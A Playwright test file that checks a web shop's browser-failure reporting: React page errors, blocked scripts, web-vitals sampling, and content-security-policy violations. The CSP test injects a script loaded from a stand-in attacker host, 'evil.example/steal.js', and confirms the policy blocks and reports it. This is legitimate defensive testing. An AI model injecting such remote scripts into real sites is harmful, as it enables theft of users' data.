import type { Request } from '@playwright/test';
import { REPORTS_PATH } from '../../contracts/api/browser-report.ts';
import type { HeardFailure } from '../../contracts/api/mock-console.ts';
import { href } from '../../contracts/site/site-map.ts';
import { type Console, expect, test } from './console-test.ts';

// one after the other: the list is the server's, and the first test clears it
test.describe.configure({ mode: 'default' });

/** Waits until the console lists such a failure. */
async function isListed(mock: Console, wanted: Partial<Record<keyof HeardFailure, unknown>>): Promise<void> {
  await expect
    .poll(async () => (await mock.read('/browser-failures')).failures)
    .toContainEqual(expect.objectContaining(wanted));
}

test('a broken page shows a reference to quote on the phone, and the console shows why it broke', async ({
  page,
  shop,
  mock,
  quietConsole,
}) => {
  await mock.enter();
  await page.route('**/woojiapi/product/qrybyproductid', async (route) => {
    const response = await route.fetch();
    const reply = await response.json();
    await route.fulfill({
      response,
      json: { ...reply, data: { ...reply.data, productName: { no: 'name' } } },
    });
  });
  await shop.open('product', { id: 'p-0601' });
  await expect(page.getByRole('main')).toContainText(/quote F-[A-Z2-9]{5}\./);
  await shop.expectAccessible();
  await isListed(mock, {
    kind: 'page',
    page: 'product',
    message: expect.stringContaining('React error #31'),
  });
  expect(quietConsole.splice(0).join()).toContain('React error #31');

  await mock.open('browser-failures');
  const item = page.getByRole('listitem').filter({ hasText: 'React error #31' }).first();
  await expect(item).toContainText(/Page broken.*Product.* · Chrome \d+ · /s);
  await shop.expectAccessible();
  await page.getByRole('button', { name: 'Clear' }).click();
  await expect(page.getByText('React error #31')).toHaveCount(0);
});

test('a script that is blocked is reported although nothing of the page runs', async ({
  page,
  mock,
  quietConsole,
}) => {
  await page.route(/\/assets\/entry-desktop/, (route) => route.abort());
  await page.goto(href('delivery', 'desktop'));
  await isListed(mock, {
    kind: 'script',
    page: 'delivery',
    message: expect.stringContaining('entry-desktop'),
  });
  // printed by the browser, which may be after it is reported
  await expect.poll(() => quietConsole.join()).toContain('Failed to fetch dynamically imported module');
  quietConsole.length = 0;
});

test('a violation of the content security policy is reported, with the other site and not its address', async ({
  page,
  shop,
  mock,
  quietConsole,
}) => {
  await shop.open('terms');
  await page.evaluate(() => {
    const script = document.createElement('script');
    script.src = 'https://evil.example/steal.js?from=shop';
    document.head.append(script);
  });
  await isListed(mock, {
    kind: 'policy',
    page: 'terms',
    message: 'script-src-elem blocked https://evil.example',
  });
  await expect.poll(() => quietConsole.join()).toContain('Content Security Policy');
  quietConsole.length = 0;
});

test('one visit in ten is measured after the page has loaded, and reported', async ({
  page,
  context,
  shop,
}) => {
  await page.addInitScript(() => {
    Math.random = () => 0;
  });
  await page.clock.install();
  await shop.open('delivery');
  const loaded = page.waitForResponse(/\/assets\/web-vitals/);
  await page.clock.runFor(10_000);
  await loaded;
  const reported: Request[] = [];
  context.on('request', (request) => {
    if (request.url().endsWith(REPORTS_PATH) && request.postData()?.includes('"LCP"')) reported.push(request);
  });
  // a key ends what the browser counts as loading; the code that hears it runs a moment after it has arrived
  await expect(async () => {
    await page.keyboard.press('Tab');
    expect(reported).toHaveLength(1);
  }).toPass({ intervals: [500] });
  expect(reported[0]?.postDataJSON()).toEqual({
    vital: 'LCP',
    value: expect.any(Number),
    path: href('delivery', 'desktop'),
  });
});
